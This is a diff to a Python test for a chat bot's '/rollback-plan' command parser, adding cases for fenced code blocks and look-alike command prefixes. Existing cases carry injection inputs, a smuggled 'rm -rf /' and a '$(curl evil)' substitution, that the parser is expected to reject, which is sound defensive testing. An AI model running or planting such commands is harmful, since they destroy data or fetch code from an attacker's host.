@@ -17,6 +17,11 @@ from bot.commands import CommandKind, parse
         ("/rollback-plan help", CommandKind.HELP),
         ("/rollback-plan approve everything; rm -rf /", CommandKind.UNKNOWN),
         ("/rollback-plan $(curl evil)", CommandKind.UNKNOWN),
+        # after a closed code block, lines are read again
+        ("```\n/rollback-plan refresh\n```\n/rollback-plan approve", CommandKind.APPROVE),
+        ("~~~sh\nrun it\n~~~\n\n/rollback-plan help", CommandKind.HELP),
+        # someone else's command on an earlier line does not hide ours
+        ("/rollback-planner go\n/rollback-plan approve", CommandKind.APPROVE),
     ],
 )
 def test_commands(body: str, kind: CommandKind) -> None:
